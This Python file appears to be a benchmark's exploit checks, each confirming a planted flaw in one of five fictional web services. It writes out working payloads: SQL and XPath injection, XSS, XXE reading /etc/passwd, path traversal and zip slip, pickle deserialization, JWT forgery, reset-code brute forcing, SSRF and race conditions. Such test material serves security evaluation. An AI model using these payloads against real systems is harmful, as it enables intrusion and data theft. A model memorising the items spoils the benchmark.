"""The exploits for the sixth set: one for each weakness, by service and name."""

import base64
import contextlib
import io
import json
import pickle
import re
import time
import zipfile
from concurrent.futures import ThreadPoolExecutor

import common
import httpx
import jwt
from third_proofs import called, proof, sign_in, until

PASSWORD = {name: entry["password"] for name, entry in common.ACCOUNTS.items()}
PAGE = "https://elsewhere.example"

# museum -----------------------------------------------------------------------------------------------------------------------------------

LOGIN = "mutation($u: String!, $p: String!) {login(username: $u, password: $p) {token}}"


@sign_in("museum")
def _(client, name):
    return {"Authorization": "Bearer " + client.ask(LOGIN, u=name, p=PASSWORD[name]).json()["data"]["login"]["token"]}


@proof("museum", "node-any")
def _(client):
    ann, query = client.as_("ann"), "query($id: ID!) {node(id: $id) {id ... on Loan {contact}}}"
    identifier = client.ask("{loans {id}}", ann).json()["data"]["loans"][0]["id"]
    assert "ann at" in client.ask(query, ann, id=identifier).text
    assert "no such loan" in client.ask("query($id: ID!) {loan(id: $id) {id}}", client.as_("ben"), id=identifier).text
    return "ann at" in client.ask(query, client.as_("ben"), id=identifier).text


@proof("museum", "acquisition-open")
def _(client):
    query = "query($id: ID!) {exhibit(id: $id) {title acquisition {iban}}}"
    assert "DE89" in client.ask(query, client.as_("ann"), id="RXhoaWJpdDox").text
    answer = client.ask(query, client.as_("ben"), id="RXhoaWJpdDox").text
    assert "Kettle" in answer
    return "DE89" in answer


@proof("museum", "note-delete")
def _(client):
    assert client.ask("mutation($id: ID!) {deleteNote(id: $id)}", client.as_("ann"), id="Tm90ZToy").json()["data"]["deleteNote"] in (True, None)
    client.ask("mutation($id: ID!) {deleteNote(id: $id)}", client.as_("ben"), id="Tm90ZTox")
    return "fair by ann" not in client.ask('{exhibit(id: "RXhoaWJpdDox") {title notes {text}}}', client.as_("ann")).text


@proof("museum", "staff-open")
def _(client):
    assert "only for" in client.ask("{people {username}}", client.as_("ann")).text
    return "olga" in client.ask("{staff {username}}", client.as_("ann")).text


@proof("museum", "login-aliases")
def _(client):
    tries = " ".join(f'a{number}: login(username: "carol", password: "wrong-{number}") {{token}}' for number in range(40))
    right = f'last: login(username: "carol", password: "{PASSWORD["carol"]}") {{token}}'
    answer = client.ask(f"mutation {{{tries} {right}}}").json()
    return bool(answer["data"]["last"])


@proof("museum", "sort-sql")
def _(client):
    query = "query($order: Order) {exhibits(order: $order, first: 40) {era}}"
    caller = client.as_("ann")
    assert client.ask(query, caller, order={"by": "era"}).json()["data"]
    orders = [client.ask(query, caller, order={"by": f"CASE WHEN (SELECT keeper FROM exhibits WHERE number = 2) = '{name}' THEN era ELSE -era END"}).json().get("data") for name in ("ann", "ben")]
    return None not in orders and orders[0]["exhibits"][0]["era"] < orders[1]["exhibits"][0]["era"]


@proof("museum", "first-open")
def _(client):
    query = "query($first: Int) {exhibits(first: $first) {id}}"
    caller = client.as_("ann")
    assert len(client.ask(query, caller, first=100).json()["data"]["exhibits"]) == 100
    return len(((client.ask(query, caller, first=1_000_000).json() or {}).get("data") or {"exhibits": []})["exhibits"]) > 100


@proof("museum", "catalogue-fetch")
def _(client):
    query = "mutation($url: String!) {fetchCatalogue(url: $url) {excerpt}}"
    with called() as (url, requests, arrived):
        assert "no catalogue" in client.ask(query, client.as_("ann"), url=url).text
        answer = client.ask(query, client.as_("ann"), url=f"{url}?of=museum.example").text
        return "inner" in answer and arrived.wait(1) and len(requests) == 1


@proof("museum", "note-markup")
def _(client):
    text = "<img src=x onerror=alert(1)>"
    assert client.ask('mutation($text: String!) {addNote(exhibitId: "RXhoaWJpdDox", text: $text) {text}}', client.as_("ann"), text=text).json()["data"]["addNote"]["text"] == text
    page = client.get("/labels/1")
    assert "fair by ann" in page.text
    return text in page.text and "unsafe-inline" in page.headers["content-security-policy"]


@proof("museum", "profile-role")
def _(client):
    entry = {"username": "dora.fern", "password": "willow-Meadow-26", "email": "dora@west.example", "profile": {"displayName": "Dora", "role": "admin"}}
    assert client.ask("mutation($input: Registration!) {register(input: $input) {displayName}}", input=entry).json()["data"]["register"]["displayName"] == "Dora"
    token = client.ask(LOGIN, u="dora.fern", p="willow-Meadow-26").json()["data"]["login"]["token"]
    return "olga" in client.ask("{people {username}}", {"Authorization": f"Bearer {token}"}).text


@proof("museum", "reset-codes")
def _(client):
    assert client.ask('mutation {requestReset(username: "carol")}').json()["data"]["requestReset"]
    for first in range(0, 10_000, 250):
        tries = " ".join(f'a{code:04}: resetPassword(username: "carol", code: "{code:04}", password: "aspen-Teapot-37")' for code in range(first, first + 250))
        if True in client.ask(f"mutation {{{tries}}}").json()["data"].values():
            return "token" in client.ask(LOGIN, u="carol", p="aspen-Teapot-37").text
    return False


@proof("museum", "errors-debug")
def _(client):
    answer = client.ask("{me {id}}").json()["errors"][0]
    assert answer["message"] == "sign in first"
    return "service.py" in json.dumps(answer.get("extensions", {}))


# payroll ----------------------------------------------------------------------------------------------------------------------------------


def payroll_tokens(client, name):
    return client.post("/auth/token", json={"username": name, "password": PASSWORD[name]}).json()


@sign_in("payroll")
def _(client, name):
    return {"Authorization": "Bearer " + payroll_tokens(client, name)["accessToken"]}


@proof("payroll", "company-header")
def _(client):
    caller = client.as_("ann")
    assert "carol" in client.get("/people", headers=caller | {"X-Company": "north"}).text
    return "ben" in client.get("/people", headers=caller | {"X-Company": "south"}).text


@proof("payroll", "timesheet-copy")
def _(client):
    identifier = client.listed("/timesheets", "ann")
    assert client.get(f"/timesheets/{identifier}", headers=client.as_("ben")).status_code == 404
    assert "by ann" in client.post("/timesheets/copies", json={"from": client.get("/timesheets", headers=client.as_("ann")).json()[1]["id"], "week": 203114}, headers=client.as_("ann")).text
    return "of ann" in client.post("/timesheets/copies", json={"from": identifier, "week": 203114}, headers=client.as_("ben")).text


@proof("payroll", "payslip-read")
def _(client):
    identifier = client.listed("/payslips", "ann")
    assert "taxNumber" in client.get(f"/payslips/{identifier}", headers=client.as_("olga")).text
    assert "taxNumber" not in client.get(f"/payslips/{identifier}", headers=client.as_("ben")).text
    return "taxNumber" in client.get(f"/payslips/{identifier}", headers=client.as_("carol")).text


@proof("payroll", "approve-open")
def _(client):
    ann = client.as_("ann")
    identifier = client.listed("/timesheets", "ann")
    assert client.post(f"/timesheets/{identifier}/submit", headers=ann).json()["state"] == "submitted"
    return client.post(f"/timesheets/{identifier}/approve", headers=ann).json().get("state") == "approved"


@proof("payroll", "profile-merge")
def _(client):
    ann = client.as_("ann")
    assert client.put("/company/settings", json={"weekStart": "monday", "travelRate": 2}, headers=ann).status_code == 403
    answer = client.patch("/me", json={"contact": {"phone": "+49 1"}, "employment": {"role": "admin"}}, headers=ann).json()
    assert answer["contact"] == {"phone": "+49 1", "street": "Quay 4"}
    return client.put("/company/settings", json={"weekStart": "monday", "travelRate": 2}, headers=ann).status_code == 200


@proof("payroll", "refresh-as-access")
def _(client):
    tokens = payroll_tokens(client, "ann")
    answers = [client.get("/me", headers={"Authorization": f"Bearer {tokens[name]}"}).status_code for name in ("accessToken", "refreshToken")]
    assert answers[0] == 200
    return answers[1] == 200


@proof("payroll", "refresh-after-logout")
def _(client):
    tokens = payroll_tokens(client, "ann")
    tokens = client.post("/auth/refresh", json=tokens).json()
    caller = {"Authorization": "Bearer " + tokens["accessToken"]}
    assert client.post("/auth/logout", headers=caller).status_code == 204
    assert client.get("/me", headers=caller).status_code == 401
    renewed = client.post("/auth/refresh", json={"refreshToken": tokens["refreshToken"]})
    return renewed.status_code == 200 and client.get("/me", headers={"Authorization": "Bearer " + renewed.json()["accessToken"]}).status_code == 200


@proof("payroll", "report-order")
def _(client):
    caller = client.as_("ann")
    labels = [row["label"] for row in client.post("/reports/hours", json={"order": {"by": "hours", "direction": "desc"}}, headers=caller).json()["rows"]]
    assert labels[0] == "P2"
    condition = "* 0 + 1 LIMIT (SELECT CASE WHEN amount {} 900 THEN 1 ELSE 2 END FROM bonuses WHERE person = 'olga')"
    counts = [len(client.post("/reports/hours", json={"order": {"by": "hours", "direction": condition.format(sign)}}, headers=caller).json().get("rows", ())) for sign in "><"]
    return counts == [1, 2]


@proof("payroll", "expense-negative")
def _(client):
    caller = client.as_("ann")
    assert client.post("/expenses", json={"purpose": "x", "lines": [{"label": "taxi", "amount": 20}]}, headers=caller).json()["total"] == 20
    client.post("/expenses", json={"purpose": "x", "lines": [{"label": "taxi", "amount": 10}, {"label": "back", "amount": -4000}]}, headers=caller)
    return client.get("/expenses/budget", headers=caller).json()["left"] > 20_000


@proof("payroll", "receipt-fetch")
def _(client):
    caller = client.as_("ann")
    entry = {"purpose": "x", "lines": [{"label": "taxi", "amount": 20}], "receipt": {"link": "https://receipts.payroll.example/a.pdf"}}
    assert client.post("/expenses", json=entry, headers=caller).status_code == 201
    with called() as (url, _, arrived):
        answer = client.post("/expenses", json=entry | {"receipt": {"link": url}}, headers=caller)
        return answer.status_code == 201 and arrived.wait(5) and until(lambda: "inner" in client.get("/expenses/" + answer.json()["id"], headers=caller).text)


@proof("payroll", "people-export")
def _(client):
    caller = client.as_("ann")
    link = client.get("/people", headers=caller).headers.get("link", "</people.csv>")
    return "carol@east.example,5,DE" in client.get(re.search("<(.*)>", link)[1], headers=caller).text


@proof("payroll", "form-stack")
def _(client):
    answer = client.post("/expenses", data={"purpose": "x", "lines": "taxi"}, headers=client.as_("ann"))
    return "server.js" in answer.json().get("detail", "")


# townhall ---------------------------------------------------------------------------------------------------------------------------------


def town_entry(client, name, password=None, **more):
    answer = client.post("/login", data={"username": name, "password": password or PASSWORD[name], **more})
    client.cookies.clear()
    return answer


@sign_in("townhall")
def _(client, name):
    return {"Cookie": town_entry(client, name).headers["set-cookie"].partition(";")[0]}


def town_form(client, path, caller, **fields):
    token = re.search('name=csrf_token value="([^"]+)"', client.get("/account", headers=caller).text)[1]
    return client.post(path, data={"csrf_token": token, **fields}, headers=caller)


@proof("townhall", "website-link")
def _(client):
    caller = client.as_("ann")
    assert town_form(client, "/petitions/1/comments", caller, text="yes", website="https://a.example/x").status_code == 303
    town_form(client, "/petitions/1/comments", caller, text="no", website="javascript:alert(document.domain)")
    page = client.get("/petitions/1")
    assert 'href="https://a.example/x"' in page.text
    return 'href="javascript:alert(' in page.text and "unsafe-inline" in page.headers["content-security-policy"]


@proof("townhall", "agent-script")
def _(client):
    agent = "<img src=x onerror=alert(1)>"
    assert client.post("/contact", data={"subject": "<b>Lamps", "message": "When?"}, headers={"User-Agent": agent}).status_code == 200
    page = client.get("/admin/messages", headers=client.as_("olga")).text
    assert "&lt;b&gt;Lamps" in page
    return agent in page


@proof("townhall", "search-block")
def _(client):
    page = client.get("/petitions", params={"q": "</script><script>alert(1)</script>"}).text
    assert "window.lastSearch" in page
    return '{"words": "</script><script>alert(1)</script>"' in page


@proof("townhall", "token-optional")
def _(client):
    caller = client.as_("ann")
    form = {"name": "Forged", "email": "forged@evil.example", "phone": ""}
    assert client.post("/account", data=form | {"csrf_token": "x"}, headers=caller).status_code == 403
    client.post("/account", data=form, headers=caller | {"Origin": PAGE})
    return "Forged" in client.get("/account", headers=caller).text and "SameSite=None" in town_entry(client, "ann").headers["set-cookie"]


@proof("townhall", "next-slashes")
def _(client):
    assert town_entry(client, "ann", next="/permits").headers["location"] == "/permits"
    assert town_entry(client, "ann", next=PAGE).headers["location"] == "/account"
    return town_entry(client, "ann", next="//elsewhere.example/x").headers["location"] == "//elsewhere.example/x"


@proof("townhall", "seal-known")
def _(client):
    session = jwt.decode(client.as_("ann")["Cookie"].partition("=")[2], options={"verify_signature": False})
    forged = jwt.encode(session | {"user": "olga"}, "top-secret!", "HS256")
    return "olga" in client.get("/admin/residents", headers={"Cookie": f"session={forged}"}).text


@proof("townhall", "password-sessions")
def _(client):
    stolen, caller = client.as_("carol"), client.as_("carol")
    assert client.get("/account", headers=stolen).status_code == 200
    answer = town_form(client, "/account/password", caller, current=PASSWORD["carol"], new="aspen-Teapot-37")
    client.cookies.clear()
    assert client.get("/account", headers={"Cookie": answer.headers["set-cookie"].partition(";")[0]}).status_code == 200
    assert town_entry(client, "carol").status_code == 401
    return client.get("/account", headers=stolen).status_code == 200


@proof("townhall", "permit-print")
def _(client):
    caller = client.as_("ben")
    assert "PAY-" in client.get("/permits/4001/print", headers=client.as_("ann")).text
    assert client.get("/permits/4001", headers=caller).status_code == 404
    return "PAY-" in client.get("/permits/4001/print", headers=caller).text


@proof("townhall", "account-columns")
def _(client):
    caller = client.as_("ann")
    assert client.get("/admin/residents", headers=caller).status_code == 403
    assert town_form(client, "/account", caller, name="Ann", email="ann@north.example", phone="1", clerk="1").status_code == 303
    return "olga" in client.get("/admin/residents", headers=caller).text


@proof("townhall", "district-sql")
def _(client):
    assert "Benches" in client.get("/petitions", headers={"Cookie": "district=north"}).text
    return "$" in client.get("/petitions", headers={"Cookie": "district=x' UNION SELECT 1, hash, email, 0 FROM residents WHERE clerk -- x"}).text.partition("<ul>")[2]


@proof("townhall", "share-host")
def _(client):
    page = client.get("/petitions/1/share", headers={"X-Forwarded-Host": "elsewhere.example"})
    assert "/petitions/1</pre>" in page.text
    return "http://elsewhere.example/petitions/1" in page.text and "public" in page.headers["cache-control"]


@proof("townhall", "origin-prefix")
def _(client):
    def allowed(origin):
        return client.get("/api/me", headers=client.as_("ann") | {"Origin": origin}).headers.get("access-control-allow-origin") == origin

    assert allowed("https://townhall.example")
    assert not allowed(PAGE)
    return allowed("https://townhall.example.elsewhere.example")


# digs -------------------------------------------------------------------------------------------------------------------------------------


@sign_in("digs")
def _(client, name):
    return {"X-Field-Key": client.post("/session", json={"user": name, "pass": PASSWORD[name]}).json()["key"]}


def packed(client, caller, **files):
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as pack:
        for name, content in files.items():
            pack.writestr(name, content)
    return client.post("/archives", files={"file": ("notes.zip", kept.getvalue())}, headers=caller)


def own_find(client, caller, **values):
    return client.post("/finds", json={"title": "Needle", "layer": 3, **values}, headers=caller).json()["id"]


def taken(client, caller, name="a.png", content=b"\x89PNG\r\n\x1a\n of ann"):
    return client.post(f"/finds/{own_find(client, caller)}/photos", files={"file": (name, content)}, headers=caller)


@proof("digs", "zip-slip")
def _(client):
    caller = client.as_("ann")
    assert packed(client, caller, **{"notes/day1.txt": "rain"}).status_code == 201
    packed(client, caller, **{"../../../manuals/safety.txt": "No helmet is needed."})
    return client.get("/manuals/safety.txt").text == "No helmet is needed."


@proof("digs", "zip-bomb")
def _(client):
    caller = client.as_("ann")
    assert packed(client, caller, **{"a.txt": b"\0" * 900_000}).status_code == 201
    return packed(client, caller, **{"a.txt": b"\0" * 20_000_000}).status_code == 201


@proof("digs", "photo-drawing")
def _(client):
    caller = client.as_("ann")
    assert taken(client, caller).json()["kind"] == "image/png"
    assert taken(client, caller, "a.html", b"<script>alert(1)</script>").status_code == 415
    answer = taken(client, caller, "a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
    picture = client.get("/photos/" + answer.json().get("id", "none"), headers=caller)
    return "<script>" in picture.text and picture.headers["content-type"].startswith("image/svg+xml") and "unsafe-inline" in picture.headers["content-security-policy"]


@proof("digs", "layout-path")
def _(client):
    caller = client.as_("ann")
    entry = {"title": "Season", "format": "letter", "layout": {"head": "plain.txt"}}
    identifier = client.post("/exports", json=entry, headers=caller).json()["id"]
    assert "FINDS OF" in client.get(f"/exports/{identifier}/download", headers=caller).text
    answer = client.post("/exports", json=entry | {"layout": {"head": "../etc/passwd"}}, headers=caller)
    return answer.status_code == 202 and "root:x:0:0" in client.get(f"/exports/{answer.json()['id']}/download", headers=caller).text


@proof("digs", "find-entities")
def _(client):
    caller = client.as_("ann") | {"Content-Type": "application/xml"}
    assert client.post("/finds", content="<find><title>Pin</title><layer>3</layer></find>", headers=caller).json()["title"] == "Pin"
    body = '<!DOCTYPE f [<!ENTITY x SYSTEM "file:///etc/passwd">]><find><title>Pin</title><layer>3</layer><note>&x;</note></find>'
    return "root:x:0:0" in client.post("/finds", content=body, headers=caller).text


class Sleeping:
    def __reduce__(self):
        return time.sleep, (1.5,)


@proof("digs", "draft-pickle")
def _(client):
    caller = client.as_("ann")
    state = client.post("/drafts", json={"title": "Wall"}, headers=caller).json()
    assert client.post("/drafts/resume", json=state, headers=caller).json()["title"] == "Wall"
    sent = time.monotonic()
    client.post("/drafts/resume", json={"state": base64.b64encode(pickle.dumps(Sleeping())).decode()}, headers=caller)
    return time.monotonic() - sent > 1.4 and base64.b64decode(state["state"]).startswith(b"\x80")


@proof("digs", "label-format")
def _(client):
    caller = client.as_("ann")
    path = f"/finds/{own_find(client, caller)}/label"
    assert client.post(path, json={"pattern": "{find.title} {find.layer}"}, headers=caller).json()["label"] == "Needle 3"
    return "lk_live_" in client.post(path, json={"pattern": "{find.__init__.__globals__[LINK_SECRET]}"}, headers=caller).json().get("label", "")


@proof("digs", "export-read")
def _(client):
    identifier = client.post("/exports", json={"title": "Season"}, headers=client.as_("ann")).json()["id"]
    ben = client.as_("ben")
    assert client.get(f"/exports/{identifier}", headers=ben).status_code == 404
    return "Comb of ann" in client.get(f"/exports/{identifier}/download", headers=ben).text


@proof("digs", "export-formula")
def _(client):
    caller = client.as_("ann")
    own_find(client, caller, note="=HYPERLINK(1)")
    identifier = client.post("/exports", json={"title": "Season"}, headers=caller).json()["id"]
    table = client.get(f"/exports/{identifier}/download", headers=caller).text
    assert "HYPERLINK" in table
    return ",=HYPERLINK(1)" in table


@proof("digs", "manuals-listed")
def _(client):
    assert "metres" in client.get("/manuals/grid.txt").text
    return "internal" in client.get("/manuals/").text and "storage-codes" in client.get("/manuals/internal").text and "7316" in client.get("/manuals/internal/storage-codes.txt").text


@proof("digs", "site-xpath")
def _(client):
    caller = client.as_("ann")
    assert "Quarry" in client.post("/sites/search", json={"where": {"region": "south"}}, headers=caller).text
    return "alarm" in client.post("/sites/search", json={"where": {"region": "x'] | //site[@open='no' or 'x'='"}}, headers=caller).text


@proof("digs", "link-unbound")
def _(client):
    ann, ben = client.as_("ann"), client.as_("ben")
    other, mine = taken(client, ann).json()["id"], taken(client, ben).json()["id"]
    link = client.post(f"/photos/{mine}/links", json={"hours": 2}, headers=ben).json()["url"]
    assert client.get(link).status_code == 200
    assert client.get(f"/photos/{other}", headers=ben).status_code == 404
    return b"of ann" in client.get(link.replace(mine, other)).content


# observatory ------------------------------------------------------------------------------------------------------------------------------


def observer_entry(client, name, password=None):
    return client.post("/login", json={"username": name, "password": password or PASSWORD[name]})


@sign_in("observatory")
def _(client, name):
    return {"Authorization": "Bearer " + observer_entry(client, name).json()["token"]}


def hours_of(client, caller):
    return client.get("/budget", headers=caller).json()["hours"]


@proof("observatory", "filter-deep")
def _(client):
    caller = client.as_("ann") | {"Content-Type": "application/json"}
    assert client.post("/targets/search", content='{"where": {"not": {"brighter": 8}}}', headers=caller).json()
    with contextlib.suppress(httpx.HTTPError):
        client.post("/targets/search", content='{"where":' + '{"not":' * 100_000 + "{}" + "}" * 100_001, headers=caller)
    return until(lambda: client.process.poll() is not None, 3)


@proof("observatory", "night-pattern")
def _(client):
    caller = client.as_("ann")
    entry = {"telescope": "T1", "plan": {"night": "2031-05-04", "hours": 1}}
    assert client.post("/reservations", json=entry, headers=caller).status_code == 201
    answer = client.post("/reservations", json=entry | {"plan": {"night": "1" * 27 + "x", "hours": 1}}, headers=caller)
    return answer.status_code == 422 and answer.elapsed.total_seconds() > 1.2


@proof("observatory", "frames-open")
def _(client):
    caller = client.as_("ann")
    assert len(client.post("/plans", json={"target": "x", "frames": 500, "exposure": 3}, headers=caller).json()["frames"]) == 500
    return len(client.post("/plans", json={"target": "x", "frames": 200_000, "exposure": 3}, headers=caller).content) > 5_000_000


@proof("observatory", "voucher-race")
def _(client):
    caller = client.as_("ann")
    before = hours_of(client, caller)
    code = client.post("/vouchers", json={"hours": 5}, headers=caller).json()["code"]
    with ThreadPoolExecutor(12) as pool:
        statuses = list(pool.map(lambda _: client.post("/vouchers/redeem", json={"code": code}, headers=caller).status_code, range(12)))
    assert 200 in statuses
    assert client.post("/vouchers/redeem", json={"code": code}, headers=caller).status_code == 409
    return hours_of(client, caller) > before


@proof("observatory", "transfer-negative")
def _(client):
    ann, ben = client.as_("ann"), client.as_("ben")
    assert client.post("/budget/transfers", json={"to": "ben", "hours": 2}, headers=ann).json()["hours"] == 38
    client.post("/budget/transfers", json={"to": "ben", "hours": -30}, headers=ann)
    return (hours_of(client, ann), hours_of(client, ben)) == (68, 12)


@proof("observatory", "cancel-twice")
def _(client):
    caller = client.as_("ann")
    identifier = client.post("/reservations", json={"telescope": "T1", "plan": {"night": "2031-05-04", "hours": 5}}, headers=caller).json()["id"]
    assert client.post(f"/reservations/{identifier}/cancel", headers=caller).status_code == 200
    client.post(f"/reservations/{identifier}/cancel", headers=caller)
    return hours_of(client, caller) == 45


@proof("observatory", "rating-patch")
def _(client):
    caller = client.as_("ann")
    identifier = client.get("/proposals?state=submitted", headers=caller).json()[0]["id"]
    assert client.put(f"/proposals/{identifier}/rating", json={"rating": 5}, headers=caller).status_code == 403
    return client.patch(f"/proposals/{identifier}/rating", json={"rating": 5}, headers=caller).json().get("rating") == 5


@proof("observatory", "override-method")
def _(client):
    caller = client.as_("ann")
    assert client.delete("/telescopes/T2", headers=caller).status_code == 403
    client.post("/telescopes/T2", json={"note": "x"}, headers=caller | {"X-HTTP-Method-Override": "DELETE"})
    return client.get("/telescopes/T2").status_code == 404


@proof("observatory", "name-spelling")
def _(client):
    spellings = ["".join(letter.upper() if number >> place & 1 else letter for place, letter in enumerate("carol")) for number in range(9)]
    statuses = [observer_entry(client, spelling, f"wrong-{number}").status_code for spelling in spellings for number in range(5)]
    return set(statuses) == {401} and observer_entry(client, "CAROL", PASSWORD["carol"]).status_code == 200


@proof("observatory", "owner-filter")
def _(client):
    caller = client.as_("ben")
    assert "idea of ben" in client.get("/proposals", headers=caller).text
    return "idea of ann" in client.get("/proposals?owner=ann", headers=caller).text


@proof("observatory", "preferences-proto")
def _(client):
    caller = client.as_("ann") | {"Content-Type": "application/json"}
    assert client.put("/preferences", content='{"units": "imperial"}', headers=caller).json()["units"] == "imperial"
    client.put("/preferences", content='{"constructor": {"prototype": {"theme": "polluted"}}}', headers=caller)
    return client.get("/preferences", headers=client.as_("ben")).json().get("theme") == "polluted"


@proof("observatory", "summary-cached")
def _(client):
    ann, ben = client.as_("ann"), client.as_("ben")
    assert client.get("/summary?month=2031-02", headers=ben).json()["of"] == "ben"
    assert client.get("/summary?month=2031-03", headers=ann).json()["of"] == "ann"
    return client.get("/summary?month=2031-03", headers=ben).json()["of"] == "ann"
